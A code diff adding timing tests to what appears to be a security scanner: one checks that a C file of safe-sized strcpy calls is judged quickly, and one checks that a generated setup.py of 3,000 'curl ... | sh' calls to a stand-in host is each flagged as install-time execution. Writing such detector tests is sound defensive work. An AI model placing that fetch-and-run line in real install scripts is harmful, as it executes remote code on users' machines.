@@ -9,6 +9,7 @@ import { once } from 'node:events';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { createDeflateRaw, createGzip, deflateRawSync, gzipSync, type Gzip, type DeflateRaw } from 'node:zlib';
+import { scanText } from '../../src/engine/scan.ts';
 
 const BIN = join(import.meta.dirname, '..', '..', 'bin', 'warden.js');
 const dir = mkdtempSync(join(tmpdir(), 'warden-resources-'));
@@ -407,4 +408,23 @@ test('a 268 KB JavaScript file of 3,000 helpers that return a constant behind a 
     sourceDir('many-helpers', { 'a.js': Array.from({ length: 3000 }, (_v, i) => helper(i)).join('\n') }),
   ]);
   assert.ok(r.ms < 5_000, `took ${Math.round(r.ms)} ms`);
+});
+
+test('a C function of 1,500 strcpy calls into one sized buffer is judged in bounded time (the copy proof asked the tree per match: minutes)', () => {
+  let c = 'char *f(const char *a) {\n    char *d = malloc(strlen(a) + 1);\n';
+  for (let i = 0; i < 1_500; i++) c += '    strcpy(d, a);\n';
+  const t = performance.now();
+  const found = scanText('x.c', c + '    return d;\n}\n').findings.filter((f) => f.ruleId === 'c.unbounded-copy');
+  assert.equal(found.length, 0);
+  assert.ok(performance.now() - t < 30_000, `${performance.now() - t} ms`);
+});
+
+test('a setup.py of 3,000 process calls is judged in bounded time, each on its own line', () => {
+  let py = 'from setuptools import setup\nimport os\n';
+  for (let i = 0; i < 3_000; i++) py += `os.system("curl -s https://x.example/${i} | sh")\n`;
+  const t = performance.now();
+  const lines = scanText('setup.py', py).findings.filter((f) => f.ruleId === 'supply-chain.install-time-exec');
+  assert.equal(lines.length, 3_000);
+  assert.equal(lines[2_999].line, 3_002);
+  assert.ok(performance.now() - t < 20_000, `${performance.now() - t} ms`);
 });
